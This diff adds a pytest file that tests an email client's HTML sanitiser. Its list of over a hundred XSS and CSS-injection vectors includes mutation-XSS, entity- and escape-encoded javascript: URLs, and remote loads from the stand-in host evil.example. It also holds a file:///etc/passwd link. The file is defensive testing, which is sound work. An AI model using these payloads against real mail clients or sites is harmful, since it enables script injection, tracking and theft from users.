@@ -1,0 +1,367 @@
+"""HTML of mail made harmless: what is a message stays, what runs, asks or loads does not, however it is written."""
+
+import re
+from html.parser import HTMLParser
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from popfetch.adapters.sanitised_html import plain_address, sanitised, surely_cheap, text_of
+from popfetch.adapters.sanitising_process import HtmlSanitiser
+from popfetch.domain.errors import HtmlUnreadable
+from popfetch.ports import CleanHtml
+from tests.builders.hostile_mail import HOSTILE_HTML
+
+IMAGES = {"logo@example.org": "data:image/png;base64,iVBORw0KGgo="}
+
+
+def clean(document: str, **changes: Any) -> CleanHtml:
+    return sanitised(document, IMAGES, remote_images=changes.get("remote_images", False))
+
+
+class Elements(HTMLParser):
+    """Reads what is left, and remembers each element with its attributes."""
+
+    def __init__(self, document: str) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+        self.feed(document)
+        self.close()
+
+    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attributes)))
+
+
+NEVER = {
+    *("script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input", "button", "textarea"),
+    *("select", "svg", "math", "meta", "base", "link", "audio", "video", "noscript", "template", "title", "body"),
+}
+LINK = re.compile(r"(https?://|mailto:|tel:)", re.IGNORECASE)
+SHOWN = re.compile(r"(https?://|data:image/(png|jpe?g|gif|webp|bmp);base64,)", re.IGNORECASE)
+
+
+def assert_harmless(html: str) -> None:
+    for element, attributes in Elements(html).found:
+        assert element not in NEVER, html
+        for name, value in attributes.items():
+            assert not name.startswith("on"), html
+            assert name not in {"srcdoc", "action", "formaction", "xlink:href", "ping", "http-equiv"}, html
+            if name == "href":
+                assert LINK.match(value or ""), html
+            if name in {"src", "background"}:
+                assert SHOWN.match(value or ""), html
+    assert_harmless_css(html)
+
+
+def assert_harmless_css(html: str) -> None:
+    styles = re.findall(r"<style>(.*?)</style>", html, re.DOTALL)
+    styles += [attributes["style"] or "" for _, attributes in Elements(html).found if "style" in attributes]
+    for style in styles:
+        lowered = style.lower()
+        for word in ("expression", "behavior", "-moz-binding", "@import", "javascript", "fixed", "sticky", "\\75"):
+            assert word not in lowered, style
+        for address in re.findall(r"url\(\s*([^)]*)", lowered):
+            assert address.startswith('"data:image/'), style
+        assert "<" not in style
+
+
+VECTORS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script/xss src=//evil.example></script>",
+    "<<script>alert(1);//<</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x onerror=&#97;lert(1)>",
+    "<img/src='x'/onerror=alert(1)>",
+    '<img """><script>alert(1)</script>">',
+    "<img src=javascript:alert(1)>",
+    "<img src=JaVaScRiPt:alert(1)>",
+    "<img src=`javascript:alert(1)`>",
+    '<img src="jav\tascript:alert(1)">',
+    '<img src="jav&#x0A;ascript:alert(1)">',
+    "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
+    '<img src=" &#14; javascript:alert(1)">',
+    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
+    '<img src="data:text/html,<script>alert(1)</script>">',
+    '<img srcset="javascript:alert(1) 1x, data:text/html,x 2x">',
+    '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="&#1;javascript:alert(1)">x</a>',
+    '<a href="java&Tab;script:alert(1)">x</a>',
+    '<a href="java&NewLine;script&colon;alert(1)">x</a>',
+    '<a href="\u00a0javascript:alert(1)">x</a>',
+    '<a href="vbscript:msgbox(1)">x</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+    '<a href="data:image/png;base64,AAAA">x</a>',
+    '<a href="cid:logo@example.org">x</a>',
+    '<a href="file:///etc/passwd">x</a>',
+    '<a href="blob:https://example.org/x">x</a>',
+    '<a href="/accounts">x</a>',
+    '<a href="#x" onclick=alert(1) ping=https://evil.example>x</a>',
+    '<a href="https:alert(1)">x</a>',
+    '<area href="javascript:alert(1)" shape=default>',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><script xlink:href=data:,alert(1) /></svg>",
+    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
+    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
+    "<math><mtext></form><form><mglyph><svg><mtext><style><path id=</style><img onerror=alert(1) src>",
+    '<math><a xlink:href="javascript:alert(1)">x',
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
+    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
+    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
+    "<xmp><p title='</xmp><svg/onload=alert(1)>'></xmp>",
+    "<plaintext><img src=x onerror=alert(1)>",
+    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
+    "<table><td><svg><desc><td></desc></svg><script>alert(1)</script>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=javascript:alert(1)>",
+    "<applet code=x></applet>",
+    "<base href=javascript:alert(1)//>",
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    '<link rel=stylesheet href="javascript:alert(1)">',
+    '<link rel=import href="https://evil.example/x">',
+    "<form action=javascript:alert(1)><input type=submit></form>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<input autofocus onfocus=alert(1)>",
+    "<keygen autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<body onload=alert(1) background=javascript:alert(1)>",
+    '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x',
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<p style=width:expression(alert(1))>x",
+    "<p style='width:expr/**/ession(alert(1))'>x",
+    "<p style='width:e\\78pression(alert(1))'>x",
+    "<p style='behavior:url(#default#time2)'>x",
+    "<p style='-moz-binding:url(https://evil.example/x.xml#x)'>x",
+    "<p style='background:url(javascript:alert(1))'>x",
+    "<p style='background:url(\"data:image/svg+xml,<svg/onload=alert(1)>\")'>x",
+    "<p style='background:\\75rl(https://evil.example)'>x",
+    "<p style='background:\\000075\\000072\\00006c(https://evil.example)'>x",
+    "<p style='background:u\\\nrl(https://evil.example)'>x",
+    "<p style='background:url/**/(https://evil.example)'>x",
+    "<p style='background:url(https://evil.example'>x",
+    "<p style='background:image-set(\"https://evil.example\" 1x)'>x",
+    "<p style='background:-webkit-image-set(url(https://evil.example) 1x)'>x",
+    "<p style='background:image(\"https://evil.example\")'>x",
+    "<p style='background:src(\"https://evil.example\")'>x",
+    "<p style='background:var(--x); --x:url(https://evil.example)'>x",
+    "<p style='content:attr(title)'>x",
+    "<p style='position:fixed;top:0'>x",
+    "<p style='position:fi\\78 ed;top:0'>x",
+    "<p style='position:/**/sticky'>x",
+    "<p style='color:red;}body{background:url(https://evil.example)}'>x",
+    "<p style='font-family:\"</style><img src=x onerror=alert(1)>\"'>x",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<style>@\\69mport 'https://evil.example/x.css';</style>",
+    "<style>@charset 'x'; @namespace url(https://evil.example); p{color:red}</style>",
+    "<style>@font-face{font-family:x;src:url(https://evil.example)}</style>",
+    "<style>p{background:url(https://evil.example)}</style>",
+    "<style>p{background:URL(  'https://evil.example'  )}</style>",
+    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
+    "<style>@media screen{@import 'https://evil.example';p{background:url(https://evil.example)}}</style>",
+    "<style>p{color:red}</style ><img src=x onerror=alert(1)>",
+    "<style><img src=x onerror=alert(1)></style>",
+    "<style>p::before{content:'<img src=x onerror=alert(1)>'}</style>",
+    "<style>a[title='</style><script>alert(1)</script>']{color:red}</style>",
+    "<style media='x{}</style><script>alert(1)</script>'>p{color:red}</style>",
+    "<style media='} p { position: fixed } @media all'>p{color:red}</style>",
+    "<style>p{color:red}/*</style><script>alert(1)</script>*/",
+    "<style>\\3c/style\\3e\\3cscript\\3e alert(1){color:red}</style>",
+    "<style>p{font-family:'\\3c/style\\3e\\3cscript\\3e alert(1)'}</style>",
+    "<style>p{fill:red;behavior:url(x)}</style>",
+    "<style>{}*{background:url(//evil.example)}</style>",
+    "<body bgcolor='red;} p { position: fixed' >x</body>",
+    "<p title='<style>p{}</style><script>alert(1)</script>'>x",
+    "<p id=\"x' onclick='alert(1)\">x",
+    "<p class='<script>'>x",
+    "<img usemap='javascript:alert(1)'>",
+    "<a target=_self href=https://example.org>x</a>",
+    "\u003cscript\u003ealert(1)\u003c/script\u003e",
+    "<\0script>alert(1)</script>",
+    "<scri\0pt>alert(1)</scri\0pt>",
+    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+    '<a href="https://example.org" style="x:expression(\'\\\');alert(1)//\')">x</a>',
+]
+
+
+@pytest.mark.parametrize("vector", [*VECTORS, HOSTILE_HTML])
+def test_what_runs_asks_or_loads_is_gone(vector: str) -> None:
+    html = clean(vector).html
+    assert_harmless(html)
+    assert "evil.example" not in re.sub(r">[^<]*<", "><", f">{html}<")
+    again = clean(html).html
+    assert_harmless(again)
+
+
+@given(st.lists(st.sampled_from(VECTORS), min_size=2, max_size=4), st.booleans())
+@settings(deadline=None, max_examples=150)
+def test_what_runs_is_gone_whatever_stands_around_it(vectors: list[str], joined: bool) -> None:
+    cut = [vector[: len(vector) // 2] if joined else vector for vector in vectors]
+    assert_harmless(clean("".join(cut)).html)
+
+
+@given(st.text(st.sampled_from("<>/=\"' &;:!-()\\\n\0abstyleimgrcdvou#x*@{}"), max_size=120))
+@settings(deadline=None, max_examples=300)
+def test_any_text_is_made_harmless(document: str) -> None:
+    assert_harmless(clean(document).html)
+
+
+class TestWhatStays:
+    @pytest.mark.parametrize(
+        "document",
+        [
+            "<p>Hello <b>Anna</b>, <i>how</i> are you?</p>",
+            '<table width="600" cellpadding="0" cellspacing="0" border="0" align="center"><tbody></tbody></table>',
+            '<table><tbody><tr><td bgcolor="#ffffff" valign="top" colspan="2" nowrap="">x</td></tr></tbody></table>',
+            '<font color="red" face="Arial" size="2">x</font>',
+            "<blockquote>quoted<br>text</blockquote><hr><ul><li>one</li></ul><h1>x</h1><pre>a  b</pre>",
+            '<img alt="a cat" width="10" height="20" border="0">',
+            '<div dir="rtl" lang="ar">\u0645\u0631\u062d\u0628\u0627</div>',
+            '<p class="MsoNormal" id="top">x</p>',
+            '<details open=""><summary>more</summary>x</details>',
+        ],
+    )
+    def test_is_the_message(self, document: str) -> None:
+        assert clean(document).html == document
+
+    @pytest.mark.parametrize(
+        ("style", "kept"),
+        [
+            ("color: red", "color: red;"),
+            ("COLOR: Red; margin:0 auto !important", "color: Red; margin: 0 auto !important;"),
+            ("font: 12px/1.5 Arial, 'Segoe UI', sans-serif", 'font: 12px/1.5 Arial, "Segoe UI", sans-serif;'),
+            (
+                "background: linear-gradient(90deg, #fff, rgba(0,0,0,.5))",
+                "background: linear-gradient(90deg, #fff, rgba(0,0,0,.5));",
+            ),
+            ("width: calc(100% - (2 * 8px))", "width: calc(100% - (2 * 8px));"),
+            ("position: relative; top: 2px", "position: relative; top: 2px;"),
+            ("mso-line-height-rule: exactly; line-height: 20px", "line-height: 20px;"),
+            ("background: #fff url(https://example.org/x.png) no-repeat", "background: #fff none no-repeat;"),
+        ],
+    )
+    def test_is_its_style(self, style: str, kept: str) -> None:
+        (found,) = [a["style"] for _, a in Elements(clean(f'<p style="{style}">x</p>').html).found]
+        assert found == kept
+
+    def test_is_its_style_sheet(self) -> None:
+        html = clean(
+            "<head><style type='text/css'>p.a, td > a:hover { color: red; x: y } @media (max-width: 600px) "
+            "{ .b { width: 100% !important } }</style></head><body>x</body>"
+        ).html
+        assert html == (
+            "<style>\np.a, td > a:hover { color: red; }\n@media (max-width: 600px) {\n"
+            ".b { width: 100% !important; }\n}\n</style>\n<div>x</div>"
+        )
+
+    def test_is_a_style_sheet_of_its_medium_only(self) -> None:
+        assert clean("<style media=print>p{color:red}</style>x").html.startswith("<style>\n@media print {\np {")
+        assert clean("<!--[if mso]><style>p{color:red}</style><![endif]-->x").html == "x"
+
+    def test_is_the_colour_of_the_page(self) -> None:
+        assert "body { background-color: #EEEEEE; }" in clean('<body text=red bgcolor="#EEEEEE">x').html
+
+    @pytest.mark.parametrize(
+        ("address", "kept"),
+        [
+            ("https://example.org/a?b=c&amp;d=e#f", "https://example.org/a?b=c&d=e#f"),
+            ("HTTP://example.org", "HTTP://example.org"),
+            ("  https://example.org\n", "https://example.org"),
+            ("//example.org/a", "https://example.org/a"),
+            ("mailto:bert@example.org?subject=x", "mailto:bert@example.org?subject=x"),
+            ("tel:+84123", "tel:+84123"),
+        ],
+    )
+    def test_are_links_that_open_apart_and_tell_nothing(self, address: str, kept: str) -> None:
+        ((_, attributes),) = Elements(clean(f'<a href="{address}" target="_top" rel="opener">x</a>').html).found
+        assert attributes == {"href": kept, "target": "_blank", "rel": "noopener noreferrer"}
+
+
+class TestImages:
+    def test_of_the_message_itself_are_within_it(self) -> None:
+        found = clean('<img src="cid:logo@example.org"><img src="CID:logo%40example.org"><img src="cid:none">')
+        assert found.html.count(f'<img src="{IMAGES["logo@example.org"]}">') == 2
+        assert (found.shown, found.remote_images) == (("logo@example.org",), 0)
+        assert "cid:" not in found.html
+
+    def test_of_the_message_itself_may_be_backgrounds(self) -> None:
+        found = clean("<p style=\"background: url('cid:logo@example.org')\">x</p>")
+        assert "url(&quot;data:image/png;base64,iVBORw0KGgo=&quot;)" in found.html
+        assert found.shown == ("logo@example.org",)
+
+    def test_shown_over_and_over_fill_no_answer(self) -> None:
+        images = {"a": "data:image/png;base64," + "A" * 100_000}
+        found = sanitised('<img src="cid:a">' * 1_000, images, remote_images=False)
+        assert len(found.html) < 2_500_000
+
+    REMOTE = (
+        '<img src="https://example.org/1.png"><img src="//example.org/2.png">'
+        '<img srcset="https://example.org/3.png 1x, /no.png 2x"><table background="http://example.org/4.png"><tr><td>x</table>'
+        '<p style="background-image:url(https://example.org/5.png)">x</p>'
+        "<style>p { background: url('https://example.org/6.png') }</style>"
+    )
+
+    def test_elsewhere_are_held_back_and_counted(self) -> None:
+        found = clean(self.REMOTE)
+        assert "example.org" not in found.html
+        assert found.remote_images == 6
+
+    def test_elsewhere_are_shown_where_they_are_asked_for(self) -> None:
+        found = clean(self.REMOTE, remote_images=True)
+        assert set(re.findall(r"example\.org/(\d)\.png", found.html)) == set("123456")
+        assert found.remote_images == 6
+        assert "no.png" not in found.html
+
+    @pytest.mark.parametrize("kind", ["ftp://example.org/x.png", "file:///x.png", "x.png", "data:image/svg+xml,x"])
+    def test_that_are_no_such_thing_are_never_shown(self, kind: str) -> None:
+        assert clean(f'<img src="{kind}">', remote_images=True) == CleanHtml("<img>", 0)
+
+
+class TestWhatIsNotSurelyCheap:
+    def test_is_made_harmless_in_a_process_of_its_own_and_the_same(self) -> None:
+        document = "<p onclick=alert(1)>x <img src='cid:logo@example.org'><img src='https://example.org/x'></p>" * 2_000
+        assert not surely_cheap(document)
+        found = HtmlSanitiser().clean(document, IMAGES, remote_images=False)
+        assert found == clean(document)
+
+    @pytest.mark.parametrize(
+        "document",
+        ["<div>" * 300_000, "<p>" + "".join(f"<font size={n}>" for n in range(20_000)) + "<p>x" * 20_000],
+    )
+    def test_takes_no_more_time_and_memory_than_there_is(self, document: str) -> None:
+        with pytest.raises(HtmlUnreadable):
+            HtmlSanitiser(seconds=1).clean(document, {}, remote_images=False)
+
+    def test_takes_no_more_memory_than_there_is(self) -> None:
+        with pytest.raises(HtmlUnreadable):
+            HtmlSanitiser(memory=40 * 1024 * 1024).clean("<p>x" * 100_000, {}, remote_images=False)
+
+    def test_can_be_read_as_text(self) -> None:
+        assert text_of("<style>p{}</style><p>Hello <b>Anna</b>,<br>1 &lt; 2</p>") == "Hello Anna,\n1 < 2"
+        assert text_of("<" * 1_000_000).startswith("<")
+
+
+@pytest.mark.parametrize(
+    ("address", "plain"),
+    [(" \x01java\tscript:x", "javascript:x"), ("//a/b", "https://a/b"), ("https://a\n/b ", "https://a/b")],
+)
+def test_an_address_is_read_as_browsers_do(address: str, plain: str) -> None:
+    assert plain_address(address) == plain
